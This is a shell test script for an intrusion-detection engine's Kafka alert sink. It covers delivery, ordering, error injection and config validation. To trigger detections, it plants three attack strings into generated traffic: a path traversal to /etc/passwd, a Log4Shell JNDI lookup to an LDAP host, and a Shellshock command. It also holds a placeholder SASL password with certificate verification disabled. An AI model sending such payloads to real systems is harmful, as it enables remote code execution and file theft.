#!/bin/bash
# Kafka sinks against the mock cluster: every alert of the sample run
# arrives exactly once, byte for byte as in eve.json, in per-flow order,
# with the sink's counters in the stats record; configuration errors exit 2
# naming the key; TLS and SASL properties pass through.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/kafka-lib.sh"
need_kafka_tools

PCAP=$WORK/sample.pcap
"$GEN_TRAFFIC" -o "$PCAP" --flows 200 --seed 1 \
	--plant '../../../../etc/passwd@3:20' \
	--plant '${jndi:ldap://198.51.100.7:1389/a}@7:30' \
	--plant '() { :; }; /bin/bash -c id@11:40' >/dev/null 2>&1 || { fail "gen-traffic"; finish; }
# many alerts per flow, so per-flow order means something (the mock keeps
# only a few MB per partition: 32 partitions hold them all)
cat >"$WORK/many.rules" <<'R'
alert tcp any any -> any any (msg:"MAMORI TEST every TCP payload"; flow:established; dsize:>0; sid:9100001; rev:1;)
R
RULES="-S $TOP_SRCDIR/rules/mamori.rules -S $WORK/many.rules"

mock_start --topic alerts:32 --topic errs:32 --topic retry:32 --topic quiet || { fail "mock start"; finish; }

# ---- every alert exactly once, same JSON, per-flow order ----------------
"$MAMORI" -q -r "$PCAP" $RULES -l "$WORK/out" --kafka "$KAFKA_BOOTSTRAP" \
	--kafka-topic alerts >"$WORK/run.log" 2>&1
check_eq "run with a Kafka sink exits 0" 0 $?
consume alerts '%k\t%h\t%s\n' >"$WORK/kafka.txt"
n=$(grep -c '"event_type":"alert"' "$WORK/out/eve.json")
[ "$n" -gt 1000 ] && ok "eve.json has $n alerts" || fail "only $n alerts in eve.json"
python3 "$(dirname "$0")/kafka_check.py" "$WORK/out/eve.json" "$WORK/kafka.txt" >"$WORK/chk" 2>&1
check_eq "eve.json alerts vs topic" 0 $?
cat "$WORK/chk"
python3 - "$WORK/out/eve.json" "$n" >"$WORK/st" <<'PY'
import json, sys
last = [json.loads(l) for l in open(sys.argv[1]) if '"stats"' in l][-1]
k = last["stats"]["output"]["kafka"][0]
n = int(sys.argv[2])
# until the first acknowledgement records go through the spool; every
# spooled record must have been replayed
print(k["topic"], k["produced"] == n, k["delivered"] == n, k["failed"],
      k["spooled"] == k["replayed"], k["spool_pending"], k["dropped"],
      k["latency_count"] > 0, 0 < k["latency_p50_us"] <= k["latency_p99_us"] <= k["latency_max_us"])
PY
check_eq "stats: topic, produced = delivered = alerts, none failed, spooled = replayed, latency" \
	"alerts True True 0 True 0 0 True True" "$(cat "$WORK/st")"

# ---- injected produce errors ---------------------------------------------
# 7 = REQUEST_TIMED_OUT, retried by the idempotent producer: still exactly
# once and in order
check_eq "retriable error injection answered" ok "$(mock_cmd 'err * 0 7 5')"
"$MAMORI" -q -r "$PCAP" $RULES -l "$WORK/or" --kafka "$KAFKA_BOOTSTRAP" \
	--kafka-topic retry >/dev/null 2>&1
check_eq "run with retriable errors exits 0" 0 $?
consume retry '%k\t%h\t%s\n' >"$WORK/kafka-r.txt"
python3 "$(dirname "$0")/kafka_check.py" "$WORK/or/eve.json" "$WORK/kafka-r.txt" >"$WORK/chk-r" 2>&1
check_eq "retriable errors: exactly once, per-flow order" 0 $?
grep -v '^ok' "$WORK/chk-r"
# 10 = MSG_SIZE_TOO_LARGE, not retried by librdkafka: the records of the
# first three produce requests fail, are spooled and replayed. Records of
# the same flow already in flight behind them may land first, so order is
# reported, not required (doc/kafka.md says so)
check_eq "error injection answered" ok "$(mock_cmd 'err * 0 10 3')"
"$MAMORI" -q -r "$PCAP" $RULES -l "$WORK/oe" --kafka "$KAFKA_BOOTSTRAP" \
	--kafka-topic errs >/dev/null 2>&1
check_eq "run with injected errors exits 0" 0 $?
consume errs '%k\t%h\t%s\n' >"$WORK/kafka-e.txt"
python3 "$(dirname "$0")/kafka_check.py" "$WORK/oe/eve.json" "$WORK/kafka-e.txt" \
	--allow-dups --order-info >"$WORK/chk-e" 2>&1
check_eq "permanent errors: every alert arrived (at least once)" 0 $?
grep -v '^ok' "$WORK/chk-e"
python3 - "$WORK/oe/eve.json" >"$WORK/st-e" <<'PY'
import json, sys
k = [json.loads(l) for l in open(sys.argv[1]) if '"stats"' in l][-1]["stats"]["output"]["kafka"][0]
print(k["failed"] > 0, k["spool_pending"], k["dropped"])
PY
check_eq "failed deliveries counted, spool empty, nothing dropped" "True 0 0" "$(cat "$WORK/st-e")"

# ---- types: a sink with stats and flow, another with nothing of ours ----
cat >"$WORK/two.yaml" <<Y
outputs:
  eve-log:
    flow:
      enabled: yes
  kafka:
    - brokers: "$KAFKA_BOOTSTRAP"
      topic: quiet
      types: [flow, stats]
      properties:
        linger.ms: 1
Y
"$MAMORI" -q -c "$WORK/two.yaml" -r "$PCAP" -S "$TOP_SRCDIR/rules/mamori.rules" \
	-l "$WORK/out2" >/dev/null 2>&1
check_eq "flow+stats sink run exits 0" 0 $?
consume quiet '%k\t%h\t%s\n' >"$WORK/quiet.txt"
python3 "$(dirname "$0")/kafka_check.py" "$WORK/out2/eve.json" "$WORK/quiet.txt" --type=flow \
	--allow-dups >"$WORK/chk2" 2>&1
check_eq "flow records arrive as in eve.json" 0 $?
cat "$WORK/chk2"
check_eq "no alert on a flow+stats sink" 0 "$(grep -c '"event_type":"alert"' "$WORK/quiet.txt")"
[ "$(grep -c 'event-type=stats' "$WORK/quiet.txt")" -ge 1 ] && ok "stats record published" ||
	fail "no stats record on the topic"

# ---- configuration errors exit 2 naming the key ---------------------------
expect2() {  # DESCRIPTION KEY ARGS...
	local d=$1 key=$2
	shift 2
	"$MAMORI" -T "$@" >"$WORK/e.out" 2>&1
	local rc=$?
	if [ $rc -eq 2 ] && grep -q -- "$key" "$WORK/e.out"; then ok "$d"
	else fail "$d: rc $rc: $(cat "$WORK/e.out")"; fi
}
cfg() { printf 'outputs:\n  kafka:\n    - brokers: "%s"\n      topic: t\n%s\n' "$1" "$2" >"$WORK/c.yaml"; }
cfg "127.0.0.1:9092" "      properties:
        no.such.property: 1"
expect2 "unknown librdkafka property" "outputs.kafka.0.properties.no.such.property" -c "$WORK/c.yaml"
cfg "127.0.0.1:9092" "      properties:
        acks: lots"
expect2 "bad property value" "outputs.kafka.0.properties.acks" -c "$WORK/c.yaml"
cfg "host-without-port" ""
expect2 "malformed broker list" "outputs.kafka.0.brokers" -c "$WORK/c.yaml"
cfg "a:9092,,b:9092" ""
expect2 "empty broker in list" "outputs.kafka.0.brokers" -c "$WORK/c.yaml"
cfg "a:99999" ""
expect2 "bad port" "outputs.kafka.0.brokers" -c "$WORK/c.yaml"
cfg "a:9092" "      types: [alert, bogus]"
expect2 "unknown event type" "outputs.kafka.0.types.1" -c "$WORK/c.yaml"
cfg "a:9092" "      spool:
        full: drop-middle"
expect2 "bad spool policy" "outputs.kafka.0.spool.full" -c "$WORK/c.yaml"
expect2 "--kafka malformed" "--kafka" --kafka "nohost"
"$MAMORI" -T --kafka-topic x >/dev/null 2>&1
check_eq "--kafka-topic without --kafka" 2 $?

# TLS and SASL properties are librdkafka's: accepted and passed through
cfg "SASL_SSL://127.0.0.1:9093" "      properties:
        security.protocol: SASL_SSL
        sasl.mechanisms: PLAIN
        sasl.username: sensor
        sasl.password: secret
        ssl.endpoint.identification.algorithm: https
        enable.ssl.certificate.verification: 'false'"
"$MAMORI" -T -c "$WORK/c.yaml" >"$WORK/e.out" 2>&1
check_eq "TLS and SASL properties accepted" 0 $?
cfg "127.0.0.1:9093" "      properties:
        security.protocol: SSL
        ssl.ca.location: $WORK/no-such-ca.pem"
"$MAMORI" -q -c "$WORK/c.yaml" -r "$PCAP" -l "$WORK/out3" >"$WORK/e.out" 2>&1
rc=$?
if [ $rc -eq 2 ] && grep -q "outputs.kafka.0.properties" "$WORK/e.out" &&
   grep -q "no-such-ca.pem" "$WORK/e.out"; then
	ok "ssl.ca.location reaches librdkafka (a missing file exits 2)"
else
	fail "ssl.ca.location: rc $rc: $(cat "$WORK/e.out")"
fi

mock_stop
finish
